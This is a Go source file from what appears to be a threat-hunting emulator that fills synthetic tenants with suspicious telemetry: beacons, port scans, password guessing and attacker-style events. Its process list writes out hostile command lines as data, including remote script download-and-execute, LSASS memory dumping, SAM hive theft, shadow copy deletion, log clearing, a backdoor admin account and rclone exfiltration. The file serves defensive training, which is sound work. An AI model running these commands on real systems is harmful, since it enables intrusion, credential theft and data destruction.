package telemetry

import (
	"fmt"
	"time"

	"github.com/mscloud-mcp/mscloud-mcp/emulator/hunting"
	"github.com/mscloud-mcp/mscloud-mcp/emulator/world/dice"
)

// Traces are single things that a hunter looks for and that are in every
// generated tenant, apart from its story: most are harmless on a second look.

// processTrace is a command that stands out.
type processTrace struct{ file, command, parent string }

var processTraces = []processTrace{
	{"powershell.exe", `powershell.exe -NoProfile -EncodedCommand RwBlAHQALQBTAGUAcgB2AGkAYwBlAA==`, "cmd.exe"},
	{"powershell.exe", `powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('https://files.litwareinc.com/setup.ps1')"`, "winword.exe"},
	{"certutil.exe", `certutil.exe -urlcache -split -f https://files.litwareinc.com/agent.msi C:\ProgramData\agent.msi`, "cmd.exe"},
	{"mshta.exe", `mshta.exe https://files.litwareinc.com/form.hta`, "explorer.exe"},
	{"regsvr32.exe", `regsvr32.exe /s /n /u /i:https://files.litwareinc.com/x.sct scrobj.dll`, "cmd.exe"},
	{"rundll32.exe", `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 704 C:\Windows\Temp\m.dmp full`, "powershell.exe"},
	{"schtasks.exe", `schtasks.exe /create /tn "Updater" /tr C:\ProgramData\agent.exe /sc onlogon /ru SYSTEM`, "cmd.exe"},
	{"vssadmin.exe", `vssadmin.exe delete shadows /all /quiet`, "cmd.exe"},
	{"wevtutil.exe", `wevtutil.exe cl Security`, "cmd.exe"},
	{"net.exe", `net.exe user support P@ss /add`, "cmd.exe"},
	{"net.exe", `net.exe localgroup administrators support /add`, "cmd.exe"},
	{"nltest.exe", `nltest.exe /domain_trusts /all_trusts`, "cmd.exe"},
	{"wmic.exe", `wmic.exe /node:10.1.0.11 process call create "cmd.exe /c hostname"`, "cmd.exe"},
	{"psexec.exe", `psexec.exe \\file01 -s cmd.exe`, "cmd.exe"},
	{"bitsadmin.exe", `bitsadmin.exe /transfer job https://files.litwareinc.com/a.zip C:\ProgramData\a.zip`, "cmd.exe"},
	{"rclone.exe", `rclone.exe copy C:\Users remote:backup --max-size 50M`, "powershell.exe"},
	{"anydesk.exe", `"AnyDesk.exe" --service`, "services.exe"},
	{"reg.exe", `reg.exe save HKLM\SAM C:\Windows\Temp\sam.hiv`, "cmd.exe"},
}

func (p *park) processTraces(t *hunting.Table, d dice.Dice) {
	for i, x := range processTraces {
		m, at := &p.machines[d.IntN(len(p.machines))], p.moment(d)
		sum := FileNamed(x.file)
		t.Append(m.by(append(m.on(at, d, "ProcessCreated"), "FileName", x.file, "FolderPath", `C:\Windows\System32\`+x.file, "SHA1", sum.SHA1, "SHA256", sum.SHA256, "MD5", sum.MD5,
			"ProcessId", 9000+i, "ProcessCommandLine", x.command, "ProcessCreationTime", at, "ProcessIntegrityLevel", "High", "AccountName", m.owner.account,
			"AccountDomain", m.owner.domain, "AccountSid", m.owner.sid, "AccountUpn", m.owner.upn, "AccountObjectId", m.owner.id,
			"InitiatingProcessFileName", x.parent, "InitiatingProcessId", 8000+i), false)...)
	}
}

// connectionTraces are a beacon every ten minutes, a port scan and an exit of
// the Tor network.
func (p *park) connectionTraces(t *hunting.Table, d dice.Dice) {
	beacon, scanner, tor := &p.machines[d.IntN(len(p.machines))], &p.machines[d.IntN(len(p.machines))], &p.machines[d.IntN(len(p.machines))]
	start := p.now.Add(-26 * time.Hour)
	for i := range 90 {
		t.Append(beacon.by(append(beacon.on(start.Add(time.Duration(i)*10*time.Minute), d, "ConnectionSuccess"), "RemoteIP", "198.51.100.201", "RemotePort", 8443, "RemoteUrl", "sync.cdn-metrics.example.net",
			"RemoteIPType", "Public", "LocalIP", beacon.address, "Protocol", "Tcp", "InitiatingProcessFileName", "agent.exe", "InitiatingProcessId", 6060), false)...)
	}
	at := p.now.Add(-9 * dice.Day)
	for i := range 60 {
		t.Append(scanner.by(append(scanner.on(at.Add(time.Duration(i)*time.Second), d, "ConnectionFailed"), "RemoteIP", fmt.Sprintf("10.1.0.%d", 10+i), "RemotePort", 445,
			"RemoteIPType", "Private", "LocalIP", scanner.address, "Protocol", "Tcp", "InitiatingProcessFileName", "advanced_ip_scanner.exe", "InitiatingProcessId", 7070), false)...)
	}
	t.Append(tor.by(append(tor.on(p.now.Add(-12*dice.Day), d, "ConnectionSuccess"), "RemoteIP", "203.0.113.209", "RemotePort", 9001, "RemoteIPType", "Public", "LocalIP", tor.address,
		"Protocol", "Tcp", "InitiatingProcessFileName", "tor.exe", "InitiatingProcessId", 7171), false)...)
}

// logonTraces are a guessed password, and a service account that logs on where
// only people do.
func (p *park) logonTraces(t *hunting.Table, d dice.Dice) {
	m, at := &p.machines[d.IntN(len(p.machines))], p.now.Add(-4*dice.Day)
	for i := range 40 {
		action, cells := "LogonFailed", []any{"FailureReason", "InvalidUserNameOrPassword"}
		if i == 39 {
			action, cells = "LogonSuccess", nil
		}
		t.Append(append(append(m.on(at.Add(time.Duration(i)*4*time.Second), d, action), "LogonType", "Network", "AccountName", "administrator", "AccountDomain", m.name,
			"RemoteIP", "10.30.4.77", "RemoteIPType", "Private", "Protocol", "NTLM", "IsLocalAdmin", true), cells...)...)
	}
	t.Append(append(m.on(p.now.Add(-2*dice.Day), d, "LogonSuccess"), "LogonType", "RemoteInteractive", "AccountName", p.service, "AccountDomain", p.company.NetBIOS(),
		"RemoteIP", "10.30.4.78", "RemoteIPType", "Private", "Protocol", "Kerberos", "IsLocalAdmin", true)...)
}

// eventTraces are events of the system that attackers cause, and a few of
// people.
func (p *park) eventTraces(t *hunting.Table, d dice.Dice) {
	for _, x := range []struct{ action, fields string }{
		{"SecurityLogCleared", "{}"}, {"UserAccountAddedToLocalGroup", `{"GroupName":"Administrators","GroupSid":"S-1-5-32-544"}`}, {"UserAccountCreated", `{"TargetUserName":"support"}`},
		{"ServiceInstalled", `{"ServiceName":"AnyDesk","ServiceStartType":2}`}, {"ScheduledTaskCreated", `{"TaskName":"\\Updater"}`},
		{"UsbDriveMounted", `{"DriveLetter":"E:","ProductName":"Flash Disk","SerialNumber":"A1B2C3"}`}, {"AsrLsassCredentialTheftAudited", `{"IsAudit":true}`},
		{"AsrOfficeChildProcessAudited", `{"IsAudit":true}`}, {"AsrUntrustedExecutableBlocked", `{"IsAudit":false}`}, {"TamperingAttempt", `{"TamperingAction":"Disabled","Target":"RealtimeProtection"}`},
		{"BitLockerAuditCompleted", "{}"}, {"DriverLoad", `{"Signer":"unsigned"}`}, {"NamedPipeEvent", `{"PipeName":"\\Device\\NamedPipe\\PSEXESVC"}`},
		{"SmartScreenUrlWarning", `{"Experience":"Phish"}`}, {"ExploitGuardNetworkProtectionBlocked", `{"ResponseCategory":"CustomBlockList"}`},
	} {
		m := &p.machines[d.IntN(len(p.machines))]
		t.Append(m.by(append(m.on(p.moment(d), d, x.action), "AccountName", m.owner.account, "AccountDomain", m.owner.domain, "InitiatingProcessFileName", "cmd.exe", "AdditionalFields", x.fields), false)...)
	}
}
